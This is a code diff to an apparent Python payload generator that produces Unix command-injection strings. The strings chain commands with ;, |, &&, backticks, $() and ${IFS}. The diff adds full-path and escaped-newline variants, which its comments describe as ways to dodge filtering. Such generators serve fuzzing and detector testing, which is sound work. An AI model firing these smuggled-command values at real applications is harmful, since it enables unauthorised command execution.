@@ -14,7 +14,13 @@ WIN_CMDS = ["dir", "dir c:\\", "type c:\\windows\\win.ini", "whoami", "net user"
 
 def rce_unix(r):
     c = pick(r, UNIX_CMDS)
-    pre = pick(r, ["", "1", "127.0.0.1", "x", "foo.txt", "a'"])
+    if r.random() < 0.25:
+        # Commands run by full path, as payload lists write them to dodge PATH filtering.
+        c = pick(r, ["/bin/", "/usr/bin/", "/usr/local/bin/", "/sbin/"]) + c
+    pre = pick(r, ["", "1", "127.0.0.1", "x", "foo.txt", "a'", "a)", "\"", "'"])
+    if r.random() < 0.1:
+        # A written-out newline ("\\n"), for back ends that unescape it before a shell or an eval sees it.
+        return pick(r, [f"\\n{c}\\n", f"{pre}\\n{c}", f"\\n{c}|", f"{pre}\\n{c};"])
     return pick(r, [f"{pre};{c}", f"{pre}; {c}", f"{pre}|{c}", f"{pre} | {c}", f"{pre}&&{c}", f"{pre}||{c}", f"{pre}`{c}`", f"{pre}$({c})",
                  f"{pre}\n{c}", f"{pre};{c};", f"$({c})", f"`{c}`", f"{pre}&{c}&", f";{c.replace(' ', '${IFS}')}", f"{pre}|{c}#", f"';{c};'"])
 
